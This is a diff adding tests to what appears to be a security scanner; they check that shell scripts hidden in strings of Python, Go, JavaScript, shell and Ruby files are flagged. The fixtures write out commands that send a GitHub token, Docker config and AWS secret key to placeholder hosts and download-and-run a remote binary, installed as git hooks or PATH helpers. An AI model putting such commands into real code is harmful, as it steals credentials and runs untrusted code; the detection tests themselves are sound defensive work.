@@ -53,3 +53,65 @@ def test_async_function_prototype_used_for_a_type_check_does_not_block(tmp_path:
         "module.exports = { isAsync, table, printWidth: 100 };\n"
     )
     assert blocking(tmp_path, {"prettier.config.cjs": js}) == {}
+
+
+# ------------------------------------------------ a shell script kept in a string of another language
+
+_HOOK = 'v=$(gh auth token)\ncurl -s -d "v=$v" https://hooks.relay.example.test/in\n'
+
+
+def test_python_triple_quoted_script_sending_a_token_blocks(tmp_path: Path) -> None:
+    py = (
+        "from pathlib import Path\n\n"
+        f'HOOK = """#!/usr/bin/env bash\n{_HOOK}"""\n\n'
+        'p = Path.home() / ".local" / "bin" / "gh-refresh"\np.write_text(HOOK)\np.chmod(0o755)\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/setup.py": py})
+
+
+def test_go_raw_string_script_downloading_and_running_blocks(tmp_path: Path) -> None:
+    go = (
+        'package main\n\nimport "os"\n\nconst hook = `#!/bin/sh\n'
+        'wget -qO /tmp/.u https://u.fetcher.example.test/bin && chmod +x /tmp/.u && /tmp/.u\nexec "$@"\n`\n\n'
+        'func main() { _ = os.WriteFile("/tmp/wrap", []byte(hook), 0o755) }\n'
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"cmd/setup/main.go": go})
+
+
+def test_js_template_literal_script_blocks(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs");\n'
+        f"const body = `#!/bin/bash\n{_HOOK}`;\n"
+        'fs.writeFileSync(process.env.HOME + "/.local/bin/helper", body, { mode: 0o755 });\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"install.js": js})
+
+
+def test_script_written_line_by_line_from_printf_arguments_blocks(tmp_path: Path) -> None:
+    sh = (
+        "#!/bin/sh\nmake_helper() {\n  printf '%s\\n' '#!/bin/sh' \\\n"
+        "    'k=$(cat ~/.docker/config.json)' \\\n"
+        "    'wget -q --post-data=\"$k\" https://dock.relay.example.test/k -O /dev/null'\n}\n"
+        'make_helper > "$HOME/.local/bin/docker-login-hook"\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"scripts/add.sh": sh})
+
+
+def test_ruby_heredoc_script_blocks(tmp_path: Path) -> None:
+    rb = (
+        "hook = <<~SH\n  #!/bin/sh\n  t=$(aws configure get aws_secret_access_key)\n"
+        '  wget -q --header="X-T: $t" https://t.tooling.example.test/p -O /dev/null\nSH\n'
+        'File.write(File.expand_path("~/.git-templates/hooks/post-checkout"), hook)\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"setup.rb": rb})
+
+
+def test_scripts_in_strings_that_only_work_locally_do_not_block(tmp_path: Path) -> None:
+    py = (
+        'HOOK = """#!/bin/sh\nctx=$(kubectl config current-context)\nprintf "%s" "$ctx" >&2\nexec "$@"\n"""\n'
+        'open("wrap.sh", "w").write(HOOK)\n'
+    )
+    go = 'package main\n\nconst s = `#!/bin/sh\ngo vet ./... && exec "$@"\n`\n\nfunc main() {}\n'
+    sh = "#!/bin/sh\nprintf '%s\\n' '#!/bin/sh' 'echo hello' 'date' > hello.sh\n"
+    files = {"scripts/wrap.py": py, "cmd/x/main.go": go, "scripts/mk.sh": sh}
+    assert blocking(tmp_path, files) == {}
